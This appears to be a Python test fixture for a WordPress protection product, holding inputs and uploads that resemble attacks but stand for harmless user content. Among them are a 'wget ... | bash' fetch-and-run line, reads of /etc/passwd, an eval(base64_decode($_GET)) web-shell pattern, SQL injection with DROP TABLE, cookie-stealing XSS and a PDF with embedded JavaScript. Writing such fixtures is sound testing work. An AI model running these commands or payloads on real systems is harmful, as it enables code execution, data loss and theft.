"""What people write, name and upload that looks like an attack and is none."""

from __future__ import annotations

import io
import zipfile
from typing import TypedDict

from PIL import Image


class Upload(TypedDict):
    """A file as a person chooses it in a browser's dialog."""

    name: str
    mimeType: str
    buffer: bytes


SQL = "SELECT user_login, user_pass FROM wp_users WHERE id = 1 OR 1=1 UNION SELECT NULL, 2 -- ; DROP TABLE wp_posts;"
SHELL = "$ cat ../../etc/passwd | grep root; rm -rf /tmp/x && wget http://192.0.2.1/x.sh | bash > /dev/null 2>&1; `id` $(ls)"
PHP = "<?php\n// In functions.php:\n$found = $wpdb->get_results( \"SELECT * FROM $wpdb->posts\" );\neval( base64_decode( $_GET['x'] ) );\nsystem( 'ls -la' );"
MARKUP = (
    '<div onclick="alert(1)" style="background:url(javascript:x)"><script>document.write(location.href)</script>'
    '<iframe src="https://www.youtube.com/embed/x" onload="go()"></iframe><img src=x onerror=alert(document.cookie)></div>'
)
QUOTES = "It's \"quoted\" & 'single', `back` \\ slash; 100 % of <b>O'Neil & Sons</b> -- 50% off (today)! #1 {{name}} ${x} ../a"
SAID = (
    "It's \"quoted\" & 'single'; 100 % of <b>O'Neil & Sons</b> -- 50% off (today)! #1 or 2 = 1 + 1, and/or a < b > c."
)
PROSE = "Select a plan from the table below, or update yours; drop us a line -- we delete nothing. 1 = 1; 50% off!"
LINK = "http://127.0.0.1:8080/?a=b&c=../d#e"
PASSWORD = "' OR 1=1; <script>alert('x')</script> -- $(id) Zq9!"
STYLE = "a:hover{color:red!important} .x::after{content:'<\\2f script>';background:url(data:image/png;base64,AAAA)}"
ROBOTS = "Disallow: /etc/\nAllow: ../\nunion select\n<script>\n/etc/passwd\n127.0.0.1"
# By a person in wp-admin; visitors search for prose.
SEARCHES = (
    "select * from users",
    'O\'Neil & "Sons" 50% off',
    "<script>alert(1)</script>",
    "../../etc/passwd",
    "union select -- x",
)


def picture(name: str = 'it\'s a "picture" (1).png', kind: str = "PNG") -> Upload:
    made = io.BytesIO()
    Image.linear_gradient("L").resize((640, 480)).convert("RGB").save(made, kind)
    return {"name": name, "mimeType": f"image/{kind.lower()}", "buffer": made.getvalue()}


def document() -> Upload:
    text = b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert('x'))>>>>endobj\n"
    return {"name": "price list; 50% off.pdf", "mimeType": "application/pdf", "buffer": text * 50 + b"%%EOF"}


def archive(name: str, files: dict[str, str]) -> Upload:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as into:
        for path, text in files.items():
            into.writestr(f"{name}/{path}", text)
    return {"name": f"{name}.zip", "mimeType": "application/zip", "buffer": made.getvalue()}


PLUGIN = r"""<?php
/* Plugin Name: Trial notes
 * Description: A kind of post with the classic editor, and a page of settings that hold code. */
add_action( 'init', function () {
	register_post_type( 'note', array( 'public' => true, 'label' => 'Notes', 'supports' => array(
		'title', 'editor', 'excerpt', 'custom-fields', 'comments', 'author', 'slug' ) ) );
	register_setting( 'trial', 'trial_head' );
} );
add_action( 'admin_menu', function () {
	add_options_page( 'Trial', 'Trial', 'manage_options', 'trial', function () {
		echo '<form method="post" action="options.php"><textarea name="trial_head" id="trial_head"></textarea>';
		settings_fields( 'trial' );
		submit_button();
		echo '</form><form method="post" id="own"><textarea name="css" id="css"></textarea><button id="go">Go</button></form>';
	} );
} );
/* Readers of the trial comment faster than people do. */
add_filter( 'comment_flood_filter', '__return_false', 99 );
"""
STYLESHEET = "/*\nTheme Name: Trial child\nTemplate: twentytwentyone\n*/\nbody::before{content:'<b>'}\n"
FUNCTIONS = "<?php\n/* Of the trial's theme. */\nadd_filter( 'the_title', function ( $title ) { return $title; } );\n"
